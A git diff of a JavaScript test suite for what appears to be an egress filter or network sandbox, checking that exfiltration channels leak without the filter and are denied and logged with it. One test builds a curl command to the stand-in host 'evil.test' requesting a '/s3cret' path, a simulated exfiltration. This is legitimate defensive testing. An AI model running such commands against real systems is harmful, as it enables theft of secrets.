@@ -59,6 +59,20 @@ describe('one connection, many tricks', () => {
     expect(both.caught.seen.filter(({ url }) => url === '/fine').length).toBeGreaterThan(15);
   });
 
+  test('each way has its packets without the filter, and with it a line that says no, of its own connection and process', () => {
+    const silent = [...free].filter(([way, { ports }]) => {
+      const own = both.free.packets.filter(({ sport = 0 }) => ports.includes(sport));
+      // The server says something first: that it is reached at all is the way out.
+      return way === 'N7 server first' ? own.length === 0 : own.every(({ data = 0 }) => data === 0);
+    });
+    expect(silent.map(([way]) => way)).toEqual([]);
+    const pid = pidOf(both.caught, 'names.py');
+    const refused = both.caught.log.filter((line) => line.type !== 'dns' && line.pid === pid && (line.policy === 'deny' || line.error));
+    const told = new Set(refused.flatMap(({ src_port }) => src_port ?? []));
+    const untold = [...caught].filter(([, { ports }]) => !ports.some((port) => told.has(port)));
+    expect(untold.map(([way]) => way)).toEqual([]);
+  });
+
   test('every line of the log names the program', () => {
     const pid = pidOf(both.caught, 'names.py');
     for (const line of both.caught.log) expect(line).toMatchObject({ exe: PYTHON_EXE, pid });
@@ -124,7 +138,9 @@ describe('addresses that the client chose', () => {
 
   test('N3 a name behind a passthrough rule is no name for another rule', async () => {
     const argv = curl('-k', '--resolve', `evil.test:443:${WORLD.ok}`, 'https://evil.test/s3cret');
-    const caught = await lab.run(['bash', '-c', `getent hosts ok.test; ${argv.join(' ')}`], { policy: 'ok.test passthrough' });
+    const script = ['bash', '-c', `getent hosts ok.test; ${argv.join(' ')}`];
+    const { free, caught } = await attack(lab, script, { policy: 'ok.test passthrough' });
+    expect(stolen(free.seen)).toHaveLength(1);
     expect(reached(caught, WORLD.ok)).toEqual([]);
     expect(denials(caught)).toContainEqual(expect.objectContaining({ host: 'evil.test', exe: '/usr/bin/curl' }));
   });
